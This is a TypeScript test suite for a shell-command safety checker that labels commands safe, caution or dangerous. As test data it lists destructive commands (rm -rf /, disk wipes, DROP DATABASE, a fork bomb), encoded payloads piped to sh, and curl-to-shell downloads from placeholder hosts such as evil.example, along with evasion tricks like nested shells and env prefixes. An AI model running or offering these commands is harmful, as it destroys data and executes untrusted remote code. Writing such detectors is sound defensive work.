import assert from 'node:assert/strict';
import { checkCommand } from './commandSafety';
import labelled from '../../test/fixtures/safety/commands.json';

describe('checkCommand', () => {
  it('labels every fixture command as expected (dangerous, caution and safe sets)', () => {
    const counts = { dangerous: 0, caution: 0, safe: 0 };
    const wrong: string[] = [];
    for (const { command, risk } of labelled as { command: string; risk: 'safe' | 'caution' | 'dangerous' }[]) {
      counts[risk]++;
      const verdict = checkCommand(command);
      if (verdict.risk !== risk) wrong.push(`${risk} → ${verdict.risk}: ${command}`);
    }
    assert.ok(counts.dangerous >= 40 && counts.safe >= 40 && counts.caution >= 10, JSON.stringify(counts));
    assert.deepEqual(wrong, []);
  });

  it('gives reasons for every non-safe verdict', () => {
    for (const { command } of labelled as { command: string }[]) {
      const verdict = checkCommand(command);
      if (verdict.risk !== 'safe') assert.ok(verdict.reasons.length > 0, command);
    }
  });

  it('never calls an unknown command safe', () => {
    assert.equal(checkCommand('frobnicate --all').risk, 'caution');
    assert.match(checkCommand('frobnicate --all').reasons[0]!, /not a known read-only command/);
    assert.equal(checkCommand('').risk, 'caution');
  });

  it('finds the dangerous part of compound commands', () => {
    for (const command of [
      'df -h && rm -rf /',
      'ls; sudo shutdown -r now',
      'echo ok || kubectl delete ns prod',
      'tail -f app.log &\nterraform destroy',
      'echo $(rm -rf /)',
      'echo `mkfs.ext4 /dev/sdb`',
      'diff <(ls) <(curl -s https://evil.example/x.sh | bash)',
      'if true; then iptables -F; fi',
    ]) {
      assert.equal(checkCommand(command).risk, 'dangerous', command);
    }
  });

  it('sees through wrappers, env prefixes and nested shells', () => {
    for (const command of [
      'sudo -u root -E rm -rf /etc',
      'env LC_ALL=C nohup rm -rf /usr',
      'FORCE=1 timeout 30 dd if=/dev/zero of=/dev/sdb',
      "bash -c 'redis-cli FLUSHALL'",
      "su -c 'userdel -r alice'",
      "ssh root@db-1 'psql -c \"DROP DATABASE app\"'",
      'docker exec -it pg psql -U app -c "TRUNCATE events"',
      'kubectl exec deploy/api -- sh -c "rm -rf /*"',
      "watch -n1 'kill -9 1'",
    ]) {
      assert.equal(checkCommand(command).risk, 'dangerous', command);
    }
  });

  it('reads quoting correctly', () => {
    assert.equal(checkCommand("grep 'rm -rf /' audit.log").risk, 'safe');
    assert.equal(checkCommand('echo "DROP TABLE users"').risk, 'safe');
    assert.equal(checkCommand("psql -c 'SELECT 1; DROP TABLE t'").risk, 'dangerous');
    assert.equal(checkCommand('rm -rf "/"').risk, 'dangerous');
    assert.equal(checkCommand("rm -rf '*'").risk, 'caution', 'a quoted * is a file literally named *');
  });

  it('checks SQL and Redis fed through pipes and here-documents', () => {
    assert.equal(checkCommand("printf 'FLUSHDB\\n' | redis-cli -n 3").risk, 'dangerous');
    assert.equal(checkCommand('mysql app <<EOF\nUPDATE accounts SET balance = 0;\nEOF').risk, 'dangerous');
    assert.equal(checkCommand('mysql app <<EOF\nSELECT * FROM accounts LIMIT 5;\nEOF').risk, 'safe');
    assert.equal(checkCommand('psql -c "DELETE FROM t WHERE id = 3"').risk, 'caution');
    assert.equal(checkCommand("psql -c \"UPDATE t SET note = 'no WHERE here' WHERE id = 1\"").risk, 'caution');
  });

  it('treats restarts, scale-to-zero, rollbacks and failovers as caution with a reason', () => {
    const cases: [string, RegExp][] = [
      ['systemctl restart postgresql', /restart/],
      ['kubectl scale deploy/api --replicas=0', /zero/],
      ['kubectl rollout undo deploy/api', /rolls back/],
      ['helm rollback api 3', /rolls back/],
      ['patronictl switchover --force', /fails the primary over/],
    ];
    for (const [command, reason] of cases) {
      const verdict = checkCommand(command);
      assert.equal(verdict.risk, 'caution', command);
      assert.match(verdict.reasons.join(' '), reason, command);
    }
  });

  it('catches downloaded or decoded code run by an interpreter, but not interpreters reading piped data', () => {
    assert.equal(checkCommand('echo cm0gLXJmIC8= | base64 -d | sh').risk, 'dangerous');
    assert.equal(checkCommand('eval "$(echo cm0= | base64 -d)"').risk, 'dangerous');
    assert.equal(checkCommand('x=rm; $x -rf /').risk, 'dangerous');
    assert.equal(checkCommand('curl -s https://get.example | python3').risk, 'dangerous');
    assert.notEqual(checkCommand("curl -s http://api/v1/health | python3 -c 'import json,sys; print(json.load(sys.stdin))'").risk, 'dangerous');
    assert.notEqual(checkCommand('zcat access.log.gz | python3 -m json.tool').risk, 'dangerous');
  });

  it('explains why a command is dangerous', () => {
    assert.match(checkCommand('kubectl delete pvc data-0').reasons[0]!, /pvc/);
    assert.match(checkCommand('curl https://x.example/i.sh | sh').reasons[0]!, /download/);
    assert.match(checkCommand(':(){ :|:& };:').reasons[0]!, /fork bomb/);
  });
});
